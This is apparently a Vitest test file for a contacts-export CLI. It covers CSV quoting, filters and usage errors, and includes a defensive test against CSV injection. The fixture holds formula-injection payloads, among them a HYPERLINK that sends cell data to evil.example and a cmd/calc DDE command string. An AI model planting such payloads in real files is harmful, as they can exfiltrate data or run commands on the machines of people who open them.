// `npm run api -- export contacts`: operations read what arrived, from the same SQLite file the
// server writes, as CSV (RFC 4180 quoting, Arabic intact) or JSON, with --since and --spam.
import { execFile } from 'node:child_process'
import { resolve } from 'node:path'
import { promisify } from 'node:util'
import { beforeAll, describe, expect, test } from 'vitest'
import { contactsAsCsv, csvField } from '../../api/server/exportContacts'
import type { ContactRecord } from '../../api/server/store/port'
import { sqliteStore } from '../../api/server/store/sqlite'
import { goodSales, goodSupport, tempDbPath } from './helpers'

const run = promisify(execFile)
const dbPath = tempDbPath()
const tsx = resolve('node_modules/tsx/dist/cli.mjs')

const contacts: ContactRecord[] = [
  { id: 'a1', kind: 'sales', receivedAt: '2026-10-30T09:00:00.000Z', spam: false, data: goodSales },
  {
    id: 'b2',
    kind: 'support',
    receivedAt: '2026-11-02T10:00:00.000Z',
    spam: false,
    data: { ...goodSupport, name: 'نورة الحربي', message: 'Line one, with "quotes"\nand a second line' },
  },
  { id: 'c3', kind: 'sales', receivedAt: '2026-11-03T11:00:00.000Z', spam: true, data: goodSales },
]

const api = async (...args: string[]) => {
  try {
    const { stdout, stderr } = await run(process.execPath, [tsx, 'scripts/api.ts', ...args], {
      env: { ...process.env, API_STORE: 'sqlite', DB_PATH: dbPath },
    })
    return { code: 0, stdout, stderr }
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string }
    return { code: e.code, stdout: e.stdout, stderr: e.stderr }
  }
}

beforeAll(async () => {
  const store = sqliteStore(dbPath)
  for (const c of contacts) await store.saveContact(c)
  await store.close()
})

describe('npm run api -- export contacts', () => {
  test('CSV by default: a header, one row per lead, oldest first, spam left out', { timeout: 30_000 }, async () => {
    const { code, stdout } = await api('export', 'contacts')
    expect(code).toBe(0)
    expect(stdout).toBe(contactsAsCsv(contacts.slice(0, 2)))
    const lines = stdout.split('\r\n')
    expect(lines[0]).toBe(
      'id,kind,receivedAt,spam,name,email,company,phone,market,volume,methods,merchantId,transactionId,topic,message,consent,consentVersion,consentLocale,consentAt,forwarded',
    )
    expect(lines[1]).toMatch(/^a1,sales,2026-10-30T09:00:00.000Z,false,Noura Al-Harbi,noura@example.com,/)
    // A field with a comma, quotes or a line break is quoted; Arabic is kept as it is.
    expect(stdout).toContain('"Line one, with ""quotes""\nand a second line"')
    expect(stdout).toContain('نورة الحربي')
  })

  test('--since, --spam and --format json', { timeout: 30_000 }, async () => {
    const since = await api('export', 'contacts', '--since', '2026-11-01', '--format', 'json')
    expect(since.code).toBe(0)
    expect((JSON.parse(since.stdout) as ContactRecord[]).map((c) => c.id)).toEqual(['b2'])
    const spam = await api('export', 'contacts', '--spam', '--format', 'json')
    expect((JSON.parse(spam.stdout) as ContactRecord[]).map((c) => [c.id, c.spam])).toEqual([
      ['a1', false],
      ['b2', false],
      ['c3', true],
    ])
  })

  test('wrong usage exits 2 with the usage', { timeout: 30_000 }, async () => {
    for (const args of [
      ['export', 'leads'],
      ['export', 'contacts', '--format', 'xml'],
      ['export', 'contacts', '--since', 'yesterday'],
      ['export', 'contacts', '--bogus'],
    ]) {
      const { code, stderr } = await api(...args)
      expect(code, args.join(' ')).toBe(2)
      expect(stderr).toContain('Usage: npm run api -- export contacts')
    }
  })
})

// A lead's text that a spreadsheet would run as a formula is written as text.
describe('CSV injection (OWASP): every cell a visitor typed is neutralised, JSON stays exact', () => {
  const attack: ContactRecord = {
    id: 'd4',
    kind: 'sales',
    receivedAt: '2026-11-04T12:00:00.000Z',
    spam: false,
    data: {
      ...goodSales,
      name: '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
      company: "+SUM(1+1)*cmd|' /C calc'!A0",
      message: '@SUM(1,2)',
      phone: '+966500000000',
      website: '  -2+3',
      merchantId: '\tTAB',
      transactionId: '\r=1',
    } as ContactRecord['data'],
  }

  test('a leading =, +, -, @, tab or carriage return (after spaces) gets a quote; RFC 4180 quoting stays', () => {
    const csv = contactsAsCsv([attack])
    const row = csv.split('\r\n')[1]!
    expect(row).toContain('"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")"')
    expect(row).toContain("'+SUM(1+1)*cmd|' /C calc'!A0")
    expect(row).toContain('"\'@SUM(1,2)"')
    expect(row).toContain("'+966500000000")
    expect(csvField('  -2+3')).toBe("'  -2+3")
    expect(csvField('\tTAB')).toBe("'\tTAB")
    expect(csvField('\r=1')).toBe('"\'\r=1"')
    // Nothing else changes: plain text, Arabic, a hyphen inside, a boolean, a time.
    for (const plain of ['Noura Al-Harbi', 'نورة الحربي', 'a-b', '2026-11-04T12:00:00.000Z'])
      expect(csvField(plain)).toBe(plain)
    expect(csvField(false)).toBe('false')
    // No cell of the row starts a formula once a spreadsheet has unquoted it.
    const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[ ]*[=+\-@\t\r]/)
  })

  test('JSON keeps what the visitor typed, exactly', { timeout: 30_000 }, async () => {
    const store = sqliteStore(dbPath)
    await store.saveContact(attack)
    await store.close()
    const { code, stdout } = await api('export', 'contacts', '--format', 'json', '--since', '2026-11-04')
    expect(code).toBe(0)
    expect((JSON.parse(stdout) as ContactRecord[])[0]!.data).toEqual(attack.data)
  })
})
